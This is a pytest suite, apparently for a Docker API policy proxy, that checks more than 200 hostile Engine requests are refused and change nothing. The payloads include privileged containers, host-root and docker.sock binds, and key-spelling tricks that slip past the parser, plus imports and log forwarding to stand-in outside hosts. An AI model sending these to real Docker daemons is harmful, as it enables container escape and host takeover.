"""Hostile Docker API requests sent through the policy to a real Docker Engine.

Each request (see ``CASES``; more than 200) must be answered 403 with a Docker-style
``{"message": …}``, logged as one refusal line, and leave the Engine exactly as it was:
nothing but lookups (GET, HEAD) passed from the policy to the engine (a recording relay
between them, tests/dockerpolicy/relay.py, sees every request; comparing the whole engine
before and after could not, with other processes creating Docker objects meanwhile), and
the three canary containers in the same state and with no exec instance. The canaries: one
of this stack's engines (created through the policy, running), one foreign container and
one of another Tollgate stack (both created directly, running).

The tricks: key spellings Docker's Go decoder accepts (case variants, \\u escapes, Unicode
case folding, space before the colon), duplicates with the dangerous value last and first,
nested duplicates Go merges, escaped values, JSON Go and Python read differently, every
privilege and host resource a container can ask for, images off the allow-list (tags,
digests, registries, ids), path and query tricks, and every API section the engine
lifecycle does not use.
"""

from __future__ import annotations

import http.client
import io
import json
import tarfile
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote

import docker
import pytest

from tests import leaks
from tests.dockerpolicy.process import PolicyProcess, docker_socket, policy_env, start_policy
from tests.dockerpolicy.relay import RecordingRelay

pytestmark = pytest.mark.docker

STACK = leaks.unique_name("tghostile")
IMG = "tollgate/engine-sim:latest"
MODELS, NET = f"{STACK}-models", f"{STACK}-net"
OWN, FOREIGN, OTHER = f"{STACK}-own", f"{STACK}-foreign", f"{STACK}-otherstack"
LABELS = {"tollgate.managed": "true", "tollgate.stack": STACK}
SIM_ARGS = ["Qwen/Qwen3-0.6B", "--served-model-name", "canary", "--port", "8000"]


# --- Building JSON exactly as written (raw keys, duplicates, spacing) -------------------------


class Obj(list):
    """A JSON object as (key, value) pairs; keys are written as given (escapes, repeats)."""


class R(str):
    """JSON text inserted as it is."""


def js(value: Any, colon: str = ":") -> str:
    if isinstance(value, Obj):
        return "{" + ",".join(f'"{key}"{colon}{js(item, colon)}' for key, item in value) + "}"
    if isinstance(value, R):
        return str(value)
    if isinstance(value, dict):
        return js(Obj(value.items()), colon)
    if isinstance(value, list):
        return "[" + ",".join(js(item, colon) for item in value) + "]"
    return json.dumps(value, ensure_ascii=False)


def body(
    host: list[tuple[str, Any]],
    *,
    top: list[tuple[str, Any]] = (),
    host_key: str = "HostConfig",
    colon: str = ":",
    image: Any = IMG,
    labels: Any = None,
) -> bytes:
    pairs = [
        ("Image", image),
        ("Cmd", SIM_ARGS),
        ("Labels", LABELS if labels is None else labels),
        (host_key, Obj(host)),
        *top,
    ]
    return js(Obj(pairs), colon).encode()


@dataclass(frozen=True)
class Case:
    id: str
    method: str
    target: str
    body: bytes = b""
    content_type: str = "application/json"
    chunked: bool = False
    headers: tuple[tuple[str, str], ...] = ()


def create(case_id: str, data: bytes, name: str = f"{STACK}-evil", **more: Any) -> Case:
    return Case(case_id, "POST", f"/v1.41/containers/create?name={name}", data, **more)


# --- Dangerous container settings, and the spellings Docker's decoder accepts -----------------


def esc_first(key: str) -> str:
    return f"\\u{ord(key[0]):04x}{key[1:]}"


def esc_all(key: str) -> str:
    return "".join(f"\\u{ord(ch):04x}" for ch in key)


def folded(key: str) -> str | None:
    """The key with one letter replaced by a non-ASCII rune that case-folds onto it."""
    for letters, rune in (("sS", "\u017f"), ("kK", "\u212a"), ("i", "\u0131"), ("I", "\u0130")):
        for i, ch in enumerate(key):
            if ch in letters:
                return key[:i] + rune + key[i + 1 :]
    return None


CORE = [  # every spelling and duplicate order
    ("privileged", "Privileged", True, False),
    ("cap-add", "CapAdd", ["SYS_ADMIN"], []),
    ("cap-add-string", "CapAdd", "ALL", []),
    (
        "devices",
        "Devices",
        [{"PathOnHost": "/dev/mem", "PathInContainer": "/dev/mem", "CgroupPermissions": "rwm"}],
        [],
    ),
    ("pid-host", "PidMode", "host", ""),
    ("ipc-host", "IpcMode", "host", ""),
    ("uts-host", "UTSMode", "host", ""),
    ("userns-host", "UsernsMode", "host", ""),
    ("cgroupns-host", "CgroupnsMode", "host", ""),
    ("net-host", "NetworkMode", "host", "default"),
    ("bind-root", "Binds", ["/:/host"], []),
    ("bind-docker-sock", "Binds", ["/var/run/docker.sock:/var/run/docker.sock"], []),
    ("mount-bind-root", "Mounts", [{"Type": "bind", "Source": "/", "Target": "/host"}], []),
    ("seccomp-unconfined", "SecurityOpt", ["seccomp=unconfined"], []),
]
OTHERS = [  # exact, lower-case, and dangerous-first duplicate
    ("apparmor-unconfined", "SecurityOpt", ["apparmor=unconfined"], []),
    ("selinux-disable", "SecurityOpt", ["label=disable"], []),
    ("nnp-false", "SecurityOpt", ["no-new-privileges:false"], []),
    ("systempaths-unconfined", "SecurityOpt", ["systempaths=unconfined"], []),
    ("device-cgroup-rule", "DeviceCgroupRules", ["a *:* rwm"], []),
    ("net-container", "NetworkMode", f"container:{FOREIGN}", "default"),
    ("ipc-container", "IpcMode", f"container:{FOREIGN}", ""),
    ("pid-container", "PidMode", f"container:{FOREIGN}", ""),
    ("bind-etc", "Binds", ["/etc:/host-etc:ro"], []),
    ("bind-allowed-then-root", "Binds", [f"{MODELS}:/m", "/:/host"], []),
    ("bind-other-volume", "Binds", [f"{STACK}-db:/data"], []),
    ("bind-relative", "Binds", ["./:/x"], []),
    ("bind-propagation", "Binds", [f"{MODELS}:/m:rw,rshared"], []),
    (
        "mount-bind-socket",
        "Mounts",
        [{"Type": "bind", "Source": "/var/run/docker.sock", "Target": "/s"}],
        [],
    ),
    (
        "mount-volume-bound-to-host",
        "Mounts",
        [
            {
                "Type": "volume",
                "Source": f"{STACK}-evilvol",
                "Target": "/x",
                "VolumeOptions": {
                    "DriverConfig": {
                        "Name": "local",
                        "Options": {"type": "none", "o": "bind", "device": "/"},
                    }
                },
            }
        ],
        [],
    ),
    (
        "mount-tmpfs",
        "Mounts",
        [{"Type": "tmpfs", "Target": "/x", "TmpfsOptions": {"Mode": 4095}}],
        [],
    ),
    ("mount-allowed-volume", "Mounts", [{"Type": "volume", "Source": MODELS, "Target": "/m"}], []),
    ("tmpfs-exec", "Tmpfs", {"/run": "rw,exec,suid"}, {}),
    ("sysctls", "Sysctls", {"net.ipv4.ip_forward": "1"}, {}),
    ("volumes-from", "VolumesFrom", [FOREIGN], []),
    ("cgroup-parent", "CgroupParent", "/", ""),
    ("runtime", "Runtime", "io.containerd.runc.v2", ""),
    ("masked-paths-empty", "MaskedPaths", [], None),
    ("readonly-paths-empty", "ReadonlyPaths", [], None),
    ("group-add-root", "GroupAdd", ["0"], []),
    ("oom-score", "OomScoreAdj", -1000, 0),
    ("oom-kill-disable", "OomKillDisable", True, None),
    ("publish-all", "PublishAllPorts", True, False),
    ("host-port", "PortBindings", {"8000/tcp": [{"HostIp": "0.0.0.0", "HostPort": "2375"}]}, {}),
    ("links", "Links", [f"{FOREIGN}:db"], []),
    (
        "log-syslog",
        "LogConfig",
        {"Type": "syslog", "Config": {"syslog-address": "tcp://203.0.113.1:514"}},
        {"Type": "json-file"},
    ),
    (
        "log-env",
        "LogConfig",
        {"Type": "json-file", "Config": {"env": "HF_TOKEN"}},
        {"Type": "json-file"},
    ),
    (
        "gpu-cdi",
        "DeviceRequests",
        [{"Driver": "cdi", "DeviceIDs": ["vendor.com/dev=all"], "Capabilities": [["gpu"]]}],
        [],
    ),
    ("gpu-display", "DeviceRequests", [{"Count": -1, "Capabilities": [["gpu", "display"]]}], []),
    (
        "gpu-options",
        "DeviceRequests",
        [{"Count": -1, "Capabilities": [["gpu"]], "Options": {"x": "y"}}],
        [],
    ),
    ("cap-add-all", "CapAdd", ["ALL"], []),
    ("storage-opt", "StorageOpt", {"size": "1T"}, {}),
    ("annotations", "Annotations", {"io.kubernetes.cri-o.Devices": "/dev/fuse"}, {}),
    ("volume-driver", "VolumeDriver", "evil", ""),
    ("extra-hosts", "ExtraHosts", ["docker-proxy:203.0.113.1"], []),
    ("dns", "Dns", ["203.0.113.1"], []),
]


def setting_cases() -> Iterator[Case]:
    for name, field, danger, safe in CORE:
        spellings = {
            "exact": field,
            "lower": field.lower(),
            "upper": field.upper(),
            "escaped-first": esc_first(field),
            "escaped-all": esc_all(field),
        }
        if folded(field):
            spellings["unicode-fold"] = folded(field)
        for how, key in spellings.items():
            yield create(f"{name}/{how}", body([(key, danger)]))
        yield create(f"{name}/space-before-colon", body([(field, danger)], colon=" : "))
        yield create(f"{name}/duplicate-dangerous-last", body([(field, safe), (field, danger)]))
        yield create(f"{name}/duplicate-dangerous-first", body([(field, danger), (field, safe)]))
        yield create(
            f"{name}/duplicate-case-variant", body([(field, safe), (field.lower(), danger)])
        )
        yield create(f"{name}/duplicate-escaped", body([(esc_first(field), danger), (field, safe)]))
    for name, field, danger, safe in OTHERS:
        yield create(f"{name}/exact", body([(field, danger)]))
        yield create(f"{name}/lower", body([(field.lower(), danger)]))
        yield create(f"{name}/duplicate-dangerous-first", body([(field, danger), (field, safe)]))


def structure_cases() -> Iterator[Case]:
    priv = [("Privileged", True)]
    for how, key in (
        ("lower", "hostconfig"),
        ("upper", "HOSTCONFIG"),
        ("escaped", esc_first("HostConfig")),
        ("unicode-fold", folded("HostConfig")),
    ):
        yield create(f"hostconfig-key/{how}", body(priv, host_key=key))
    yield create(
        "hostconfig/twice-go-merges-the-second-into-the-first",
        js(
            Obj(
                [
                    ("Image", IMG),
                    ("Labels", LABELS),
                    ("HostConfig", Obj(priv)),
                    ("HostConfig", Obj([])),
                ]
            )
        ).encode(),
    )
    yield create(
        "hostconfig/twice-dangerous-second",
        js(
            Obj(
                [
                    ("Image", IMG),
                    ("Labels", LABELS),
                    ("HostConfig", Obj([])),
                    ("HostConfig", Obj(priv)),
                ]
            )
        ).encode(),
    )
    yield create(
        "hostconfig/null-then-lowercase",
        js(
            Obj(
                [
                    ("Image", IMG),
                    ("Labels", LABELS),
                    ("HostConfig", None),
                    ("hostconfig", Obj(priv)),
                ]
            )
        ).encode(),
    )
    # Values written with escapes that decode to the dangerous value.
    yield create("value-escape/pid-host", body([("PidMode", R('"\\u0068ost"'))]))
    yield create("value-escape/net-host", body([("NetworkMode", R('"ho\\u0073t"'))]))
    yield create("value-escape/bind-root", body([("Binds", R('["\\u002f:/host"]'))]))
    yield create(
        "value-escape/bind-solidus", body([("Binds", R('["\\/var\\/run\\/docker.sock:/s"]'))])
    )
    yield create("value-escape/cap", body([("CapAdd", R('["\\u0053YS_ADMIN"]'))]))
    yield create("value-escape/seccomp", body([("SecurityOpt", R('["seccomp\\u003dunconfined"]'))]))
    yield create(
        "whitespace/newlines-and-tabs",
        body(priv).replace(b'"Privileged":true', b'"Privileged"\n\t:\r\n true'),
    )
    # JSON that Go and Python (or two Go versions) read differently.
    valid = body([])
    yield create(
        "json/second-value-after-the-first", valid + js(Obj([("HostConfig", Obj(priv))])).encode()
    )
    yield create("json/byte-order-mark", b"\xef\xbb\xbf" + body(priv))
    yield create("json/nan", body([("ShmSize", R("NaN"))]))
    yield create("json/comment", body(priv).replace(b'"Privileged"', b'/*x*/"Privileged"'))
    yield create("json/single-quotes", body(priv).replace(b'"Privileged"', b"'Privileged'"))
    yield create("json/trailing-comma", body(priv)[:-1] + b",}")
    yield create("json/invalid-utf8-key", body([("PrivilXXeged", True)]).replace(b"XX", b"\xc0"))
    yield create("json/lone-surrogate", body([("Binds", R('["\\ud800/:/host"]'))]))
    yield create("json/nesting-bomb", body(priv, top=[("Env", R("[" * 200000 + "]" * 200000))]))
    yield create("json/not-an-object", b'[{"HostConfig": {"Privileged": true}}]')
    yield create("json/empty", b"")
    yield create("json/null", b"null")
    yield create("json/oversized", body(priv, top=[("Env", ["A=" + "x" * (2 * 2**20)])]))
    yield create("content-type/text-plain", valid, content_type="text/plain")
    yield create("content-type/none", valid, content_type="")
    yield create("transfer/chunked-privileged", body(priv), chunked=True)
    yield create(
        "image/duplicate",
        js(Obj([("Image", IMG), ("image", "alpine:latest"), ("Labels", LABELS)])).encode(),
    )
    yield create(
        "labels/duplicate-key",
        body(
            [],
            labels=Obj(
                [
                    ("tollgate.managed", "true"),
                    ("tollgate.stack", STACK),
                    ("tollgate.managed", "false"),
                ]
            ),
        ),
    )
    yield create(
        "networking/bridge",
        body([], top=[("NetworkingConfig", {"EndpointsConfig": {"bridge": {}}})]),
    )
    yield create(
        "networking/host", body([], top=[("NetworkingConfig", {"EndpointsConfig": {"host": {}}})])
    )
    yield create(
        "networking/static-ip",
        body(
            [("NetworkMode", NET)],
            top=[
                (
                    "NetworkingConfig",
                    {"EndpointsConfig": {NET: {"IPAMConfig": {"IPv4Address": "172.31.99.9"}}}},
                )
            ],
        ),
    )
    yield create(
        "networking/links",
        body(
            [("NetworkMode", NET)],
            top=[("NetworkingConfig", {"EndpointsConfig": {NET: {"Links": [FOREIGN]}}})],
        ),
    )
    yield create(
        "networking/driver-opts",
        body(
            [("NetworkMode", NET)],
            top=[("NetworkingConfig", {"EndpointsConfig": {NET: {"DriverOpts": {"x": "y"}}}})],
        ),
    )
    yield create("config/anonymous-volume", body([], top=[("Volumes", {"/host": {}})]))


def image_and_name_cases() -> Iterator[Case]:
    for how, image in (
        ("alpine", "alpine:latest"),
        ("docker-hub-alias", f"docker.io/{IMG}"),
        ("lookalike", "tollgate/engine-sim-evil:latest"),
        ("other-registry", f"evil.example/{IMG}"),
        ("digest-not-tag", "tollgate/engine-sim@sha256:" + "0" * 64),
        ("no-tag", "tollgate/engine-sim"),
        ("upper-case", "TOLLGATE/engine-sim:latest"),
        ("trailing-space", f"{IMG} "),
        ("by-id", "{base_id}"),
        ("by-short-id", "{base_id_short}"),
        ("local-unlisted", "tollgate/base:bookworm"),
        ("tag-traversal", "tollgate/engine-sim:../../x"),
        ("escaped", R('"tollgate/engine-sim\\u002devil:latest"')),
    ):
        yield create(f"image/{how}", body([], image=image))
    for how, labels in (
        ("none", {}),
        ("managed-false", {**LABELS, "tollgate.managed": "false"}),
        ("managed-True", {**LABELS, "tollgate.managed": "True"}),
        ("other-stack", {**LABELS, "tollgate.stack": "other"}),
        ("foreign-label", {**LABELS, "com.docker.compose.project": "tollgate"}),
    ):
        yield create(f"labels/{how}", body([], labels=labels))
    yield create("name/not-this-stack", body([]), name="evil")
    yield create("name/other-stack-with-slash", body([]), name="/other-x")
    yield Case("name/missing", "POST", "/v1.41/containers/create", body([]))
    for how, query in (
        ("alpine", "fromImage=alpine&tag=latest"),
        ("no-tag-pulls-all", "fromImage=tollgate/engine-sim"),
        ("docker-hub-alias", "fromImage=docker.io/tollgate/engine-sim&tag=latest"),
        ("import-from-url", "fromSrc=http://203.0.113.1/x.tar&repo=tollgate/engine-sim&tag=latest"),
        ("import-alongside", "fromImage=tollgate/engine-sim&tag=latest&fromSrc=-"),
        ("tag-twice", "fromImage=tollgate/engine-sim:latest&tag=evil"),
        ("bad-tag", "fromImage=tollgate/engine-sim&tag=../x"),
        ("duplicate-fromImage", "fromImage=alpine&fromImage=tollgate/engine-sim&tag=latest"),
        ("semicolon", "fromImage=alpine;fromImage=tollgate/engine-sim&tag=latest"),
        ("platform", "fromImage=tollgate/engine-sim&tag=latest&platform=linux/s390x"),
        ("registry-port", "fromImage=evil.example:5000/tollgate/engine-sim&tag=latest"),
        ("encoded-lookalike", "fromImage=tollgate%2fengine-sim-evil&tag=latest"),
    ):
        yield Case(f"pull/{how}", "POST", f"/v1.41/images/create?{query}")
    yield Case("image-inspect/unlisted", "GET", "/v1.41/images/alpine:latest/json")
    yield Case("image-inspect/by-id", "GET", "/v1.41/images/{base_id}/json")


def adapter_tar() -> bytes:
    """A tar of the kind the worker puts into a helper's model cache."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        info = tarfile.TarInfo("tollgate-adapters/evil/adapter_config.json")
        info.size = 2
        tar.addfile(info, io.BytesIO(b"{}"))
    return buffer.getvalue()


ADAPTER_TAR = adapter_tar()
CACHE_PUT = "archive?path=%2Froot%2F.cache%2Fhuggingface"


def endpoint_cases() -> Iterator[Case]:
    own = "{own_id}"
    calls = [
        (
            "exec/create",
            "POST",
            f"/v1.41/containers/{own}/exec",
            js({"Cmd": ["sh"], "AttachStdout": True}).encode(),
        ),
        ("exec/start", "POST", "/v1.41/exec/0123456789ab/start", b'{"Detach": true}'),
        ("exec/inspect", "GET", "/v1.41/exec/0123456789ab/json", b""),
        ("attach", "POST", f"/v1.41/containers/{own}/attach?stream=1&stdin=1&stdout=1", b""),
        ("attach/websocket", "GET", f"/v1.41/containers/{own}/attach/ws?stream=1", b""),
        ("archive/get", "GET", f"/v1.41/containers/{own}/archive?path=/etc", b""),
        ("archive/put", "PUT", f"/v1.41/containers/{own}/archive?path=/tmp", b"\0" * 1024),
        # The one archive call allowed, aimed at an engine (a running one, not a fresh helper).
        ("archive/put-into-engine", "PUT", f"/v1.41/containers/{own}/{CACHE_PUT}", ADAPTER_TAR),
        (
            "archive/put-under-hub",
            "PUT",
            f"/v1.41/containers/{own}/archive?path=/root/.cache/huggingface/hub",
            ADAPTER_TAR,
        ),
        ("archive/head", "HEAD", f"/v1.41/containers/{own}/archive?path=/", b""),
        ("export", "GET", f"/v1.41/containers/{own}/export", b""),
        (
            "commit-to-allowed-name",
            "POST",
            f"/v1.41/commit?container={own}&repo=tollgate/engine-sim&tag=evil",
            b"{}",
        ),
        ("build", "POST", "/v1.41/build?t=tollgate/engine-sim:latest", b"\0" * 1024),
        ("build/prune", "POST", "/v1.41/build/prune?all=1", b""),
        ("images/load", "POST", "/v1.41/images/load", b"\0" * 1024),
        ("images/get", "GET", "/v1.41/images/get?names=tollgate/engine-sim", b""),
        ("images/push", "POST", f"/v1.41/images/{IMG}/push", b""),
        (
            "images/tag",
            "POST",
            "/v1.41/images/{base_id}/tag?repo=tollgate/engine-sim&tag=latest",
            b"",
        ),
        ("images/delete", "DELETE", f"/v1.41/images/{IMG}", b""),
        ("images/prune", "POST", "/v1.41/images/prune", b""),
        ("images/list", "GET", "/v1.41/images/json", b""),
        ("images/search", "GET", "/v1.41/images/search?term=x", b""),
        (
            "containers/update",
            "POST",
            f"/v1.41/containers/{own}/update",
            b'{"RestartPolicy": {"Name": "always"}, "Memory": 0}',
        ),
        ("containers/rename", "POST", f"/v1.41/containers/{own}/rename?name=x", b""),
        ("containers/pause", "POST", f"/v1.41/containers/{own}/pause", b""),
        ("containers/restart", "POST", f"/v1.41/containers/{own}/restart", b""),
        ("containers/resize", "POST", f"/v1.41/containers/{own}/resize?h=1&w=1", b""),
        ("containers/changes", "GET", f"/v1.41/containers/{own}/changes", b""),
        ("containers/top", "GET", f"/v1.41/containers/{own}/top", b""),
        ("containers/stats", "GET", f"/v1.41/containers/{own}/stats?stream=0", b""),
        ("containers/prune", "POST", "/v1.41/containers/prune", b""),
        ("containers/list-unfiltered", "GET", "/v1.41/containers/json?all=1", b""),
        (
            "containers/list-other-label",
            "GET",
            "/v1.41/containers/json?all=1&filters="
            + quote(json.dumps({"label": ["tollgate.managed=false"]})),
            b"",
        ),
        (
            "containers/list-without-stack",
            "GET",
            "/v1.41/containers/json?filters="
            + quote(json.dumps({"label": ["tollgate.managed=true"]})),
            b"",
        ),
        (
            "containers/list-by-name",
            "GET",
            "/v1.41/containers/json?filters="
            + quote(
                json.dumps(
                    {"label": ["tollgate.managed=true", f"tollgate.stack={STACK}"], "name": ["db"]}
                )
            ),
            b"",
        ),
        ("volumes/list", "GET", "/v1.41/volumes", b""),
        ("volumes/delete-model-cache", "DELETE", f"/v1.41/volumes/{MODELS}", b""),
        ("volumes/prune", "POST", "/v1.41/volumes/prune", b""),
        (
            "volumes/create-bound-to-host",
            "POST",
            "/v1.41/volumes/create",
            js(
                {"Name": MODELS, "DriverOpts": {"type": "none", "o": "bind", "device": "/"}}
            ).encode(),
        ),
        (
            "volumes/create-other",
            "POST",
            "/v1.41/volumes/create",
            js({"Name": f"{STACK}-evilvol"}).encode(),
        ),
        (
            "volumes/create-plugin-driver",
            "POST",
            "/v1.41/volumes/create",
            js({"Name": MODELS, "Driver": "rexray/ebs"}).encode(),
        ),
        (
            "volumes/create-dup-name",
            "POST",
            "/v1.41/volumes/create",
            js(Obj([("Name", MODELS), ("name", f"{STACK}-evilvol")])).encode(),
        ),
        ("volumes/inspect-other", "GET", f"/v1.41/volumes/{STACK}-db", b""),
        ("networks/list-all", "GET", "/v1.41/networks", b""),
        ("networks/inspect-bridge", "GET", "/v1.41/networks/bridge", b""),
        (
            "networks/create-macvlan",
            "POST",
            "/v1.41/networks/create",
            js(
                {
                    "Name": NET,
                    "Driver": "macvlan",
                    "Options": {"parent": "eth0"},
                    "Labels": {"tollgate.managed": "true"},
                }
            ).encode(),
        ),
        (
            "networks/create-other",
            "POST",
            "/v1.41/networks/create",
            js({"Name": f"{STACK}-evilnet", "Labels": {"tollgate.managed": "true"}}).encode(),
        ),
        (
            "networks/create-bridge-name",
            "POST",
            "/v1.41/networks/create",
            js(
                {
                    "Name": NET,
                    "Options": {"com.docker.network.bridge.name": "docker0"},
                    "Labels": {"tollgate.managed": "true"},
                }
            ).encode(),
        ),
        (
            "networks/create-ipam",
            "POST",
            "/v1.41/networks/create",
            js(
                {
                    "Name": NET,
                    "IPAM": {"Config": [{"Subnet": "10.0.0.0/8"}]},
                    "Labels": {"tollgate.managed": "true"},
                }
            ).encode(),
        ),
        (
            "networks/connect-foreign",
            "POST",
            f"/v1.41/networks/{NET}/connect",
            js({"Container": FOREIGN}).encode(),
        ),
        (
            "networks/disconnect",
            "POST",
            "/v1.41/networks/bridge/disconnect",
            js({"Container": FOREIGN}).encode(),
        ),
        ("networks/delete", "DELETE", "/v1.41/networks/bridge", b""),
        ("networks/prune", "POST", "/v1.41/networks/prune", b""),
        ("plugins/pull", "POST", "/v1.41/plugins/pull?remote=evil/plugin", b"[]"),
        ("plugins/list", "GET", "/v1.41/plugins", b""),
        ("plugins/enable", "POST", "/v1.41/plugins/evil/enable", b""),
        ("plugins/create", "POST", "/v1.41/plugins/create?name=evil", b"\0" * 512),
        ("plugins/set", "POST", "/v1.41/plugins/evil/set", b'["DEBUG=1"]'),
        ("swarm/init", "POST", "/v1.41/swarm/init", b'{"ListenAddr": "0.0.0.0:2377"}'),
        ("swarm/inspect", "GET", "/v1.41/swarm", b""),
        ("swarm/join", "POST", "/v1.41/swarm/join", b'{"RemoteAddrs": ["203.0.113.1"]}'),
        ("services/list", "GET", "/v1.41/services", b""),
        (
            "services/create",
            "POST",
            "/v1.41/services/create",
            b'{"TaskTemplate": {"ContainerSpec": {"Image": "alpine",'
            b' "Mounts": [{"Type": "bind", "Source": "/"}]}}}',
        ),
        ("nodes", "GET", "/v1.41/nodes", b""),
        ("tasks", "GET", "/v1.41/tasks", b""),
        ("secrets/list", "GET", "/v1.41/secrets", b""),
        ("secrets/create", "POST", "/v1.41/secrets/create", b'{"Name": "x", "Data": "eA=="}'),
        ("configs/list", "GET", "/v1.41/configs", b""),
        ("configs/create", "POST", "/v1.41/configs/create", b'{"Name": "x", "Data": "eA=="}'),
        ("session", "POST", "/v1.41/session", b""),
        ("grpc", "POST", "/v1.41/grpc", b""),
        ("events", "GET", "/v1.41/events", b""),
        ("system/df", "GET", "/v1.41/system/df", b""),
        ("auth", "POST", "/v1.41/auth", b'{"username": "x", "password": "y"}'),
        ("distribution", "GET", f"/v1.41/distribution/{IMG}/json", b""),
        (
            "start-with-hostconfig-old-api",
            "POST",
            f"/v1.23/containers/{own}/start",
            b'{"Privileged": true, "Binds": ["/:/host"]}',
        ),
        (
            "start-with-hostconfig",
            "POST",
            f"/v1.41/containers/{own}/start",
            b'{"HostConfig": {"Privileged": true}}',
        ),
    ]
    for name, method, target, data in calls:
        yield Case(f"endpoint/{name}", method, target, data)
    yield Case(
        "endpoint/ping-upgrade",
        "GET",
        "/_ping",
        headers=(("Upgrade", "tcp"), ("Connection", "Upgrade")),
    )
    for target_name, ref in (
        ("foreign", FOREIGN),
        ("foreign-short-id", "{foreign_short_id}"),
        ("other-stack", OTHER),
    ):
        for action, method, suffix in (
            ("start", "POST", "/start"),
            ("stop", "POST", "/stop?t=0"),
            ("kill", "POST", "/kill?signal=SIGKILL"),
            ("wait", "POST", "/wait?condition=next-exit"),
            ("logs", "GET", "/logs?stdout=1&stderr=1"),
            ("inspect", "GET", "/json"),
            ("remove", "DELETE", "?force=1&v=1"),
        ):
            yield Case(f"owner/{target_name}/{action}", method, f"/v1.41/containers/{ref}{suffix}")


def path_cases() -> Iterator[Case]:
    valid = body([])
    name = f"name={STACK}-evil"
    for how, target in (
        ("double-slash", f"/v1.41//containers/create?{name}"),
        ("leading-double-slash", f"//v1.41/containers/create?{name}"),
        ("trailing-slash", f"/v1.41/containers/create/?{name}"),
        ("encoded-slash", f"/v1.41/containers%2Fcreate?{name}"),
        ("encoded-letters", f"/v1.41/containers/cr%65ate?{name}"),
        ("dot-segment", f"/v1.41/./containers/create?{name}"),
        ("dot-dot-segment", f"/v1.41/containers/x/../create?{name}"),
        ("encoded-dot-dot", f"/v1.41/containers/%2e%2e/containers/create?{name}"),
        ("upper-version", f"/V1.41/containers/create?{name}"),
        ("old-version", f"/v1.12/containers/create?{name}"),
        ("three-part-version", f"/v1.41.0/containers/create?{name}"),
        ("double-version", f"/v1.41/v1.41/containers/create?{name}"),
        ("absolute-form", f"http://docker/v1.41/containers/create?{name}"),
        ("semicolon-path", f"/v1.41/containers/create;x=1?{name}"),
        ("fragment", f"/v1.41/containers/create?{name}#x"),
        ("duplicate-name", f"/v1.41/containers/create?{name}&name=evil"),
        ("semicolon-query", f"/v1.41/containers/create?{name};name=evil"),
        ("bad-escape", f"/v1.41/containers/create?{name}%zz"),
        ("platform", f"/v1.41/containers/create?{name}&platform=linux/s390x"),
        ("backslash", f"/v1.41/containers\\create?{name}"),
    ):
        yield Case(f"path/{how}", "POST", target, valid)
    yield Case(
        "path/exec-behind-dot-dot",
        "POST",
        "/v1.41/containers/{own_id}/../{own_id}/exec",
        b'{"Cmd": ["sh"]}',
    )
    yield Case("path/encoded-exec", "POST", "/v1.41/containers/{own_id}%2Fexec", b'{"Cmd": ["sh"]}')


CASES = [
    *setting_cases(),
    *structure_cases(),
    *image_and_name_cases(),
    *endpoint_cases(),
    *path_cases(),
]


# --- The real Engine, the policy in front of it, the canaries ---------------------------------


@dataclass
class Suite:
    policy: PolicyProcess
    client: docker.DockerClient
    values: dict[str, str]
    relay: RecordingRelay  # between the policy and the engine: what reached the engine

    def fill(self, text: str) -> str:
        for key, value in self.values.items():
            text = text.replace("{" + key + "}", value)
        return text

    def canaries(self) -> dict[str, Any]:
        """The three canaries' state: what a request that got through would most likely
        have touched (the relay tells whether anything at all reached the engine)."""
        api = self.client.api
        canaries = {name: api.inspect_container(name) for name in (OWN, FOREIGN, OTHER)}
        return {
            name: (c["State"]["Status"], c["State"]["StartedAt"], c["ExecIDs"], c["HostConfig"])
            for name, c in canaries.items()
        }


@pytest.fixture(scope="module")
def suite() -> Iterator[Suite]:
    client = docker.from_env()
    relay = RecordingRelay(Path(tempfile.mkdtemp()) / "docker.sock", docker_socket())
    policy = start_policy(
        policy_env(STACK, ["tollgate/engine-sim:*", "vllm/vllm-openai:*"]),
        "hostile-suite",
        socket_path=str(relay.path),
    )
    try:
        through_policy = docker.DockerClient(base_url=policy.url)
        own = through_policy.containers.run(IMG, SIM_ARGS, name=OWN, labels=LABELS, detach=True)
        # The relay sees what the policy lets through: creating the own canary did pass.
        assert any(
            method == "POST" and "/containers/create" in target
            for method, target in relay.writes_since(0)
        ), relay.requests()
        foreign = client.containers.run(IMG, SIM_ARGS, name=FOREIGN, detach=True)
        client.containers.run(
            IMG,
            SIM_ARGS,
            name=OTHER,
            detach=True,
            labels={"tollgate.managed": "true", "tollgate.stack": "other-stack"},
        )
        base_id = client.images.get("tollgate/base:bookworm").id
        values = {
            "own_id": own.id,
            "foreign_short_id": foreign.id[:12],
            "base_id": base_id,
            "base_id_short": base_id.split(":")[1][:12],
        }
        assert not policy.refusals(), policy.refusals()
        yield Suite(policy, client, values, relay)
    finally:
        policy.stop()
        relay.close()
        for name in (OWN, FOREIGN, OTHER):
            try:
                client.containers.get(name).remove(force=True)
            except docker.errors.NotFound:
                pass


def send(suite: Suite, case: Case) -> tuple[int, bytes]:
    conn = http.client.HTTPConnection("127.0.0.1", suite.policy.port, timeout=20)
    headers = dict(case.headers)
    if case.content_type:
        headers["Content-Type"] = case.content_type
    data: Any = suite.fill(case.body.decode("utf-8", "surrogateescape")).encode(
        "utf-8", "surrogateescape"
    )
    if case.chunked:
        data = iter([data[: len(data) // 2], data[len(data) // 2 :]])
    try:
        conn.request(
            case.method,
            suite.fill(case.target),
            body=data if case.body or case.chunked else None,
            headers=headers,
            encode_chunked=case.chunked,
        )
        answer = conn.getresponse()
        return answer.status, answer.read()
    finally:
        conn.close()


def test_the_suite_sends_more_than_200_distinct_hostile_requests() -> None:
    assert len(CASES) >= 200
    assert len({c.id for c in CASES}) == len(CASES)
    assert len(
        {(c.method, c.target, c.body, c.content_type, c.chunked, c.headers) for c in CASES}
    ) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_a_hostile_request_is_refused_logged_and_changes_nothing(suite: Suite, case: Case) -> None:
    before, logged = suite.canaries(), len(suite.policy.refusals())
    relayed = len(suite.relay.requests())
    status, answer = send(suite, case)
    assert status == 403, (status, answer[:300])
    if case.method != "HEAD":  # a HEAD answer has no body
        assert json.loads(answer)["message"].startswith("refused by Tollgate's Docker policy: ")
    # Nothing that could change the engine reached it (at most the policy's own lookups).
    assert suite.relay.writes_since(relayed) == []
    assert suite.canaries() == before
    assert len(suite.policy.refusals()) == logged + 1
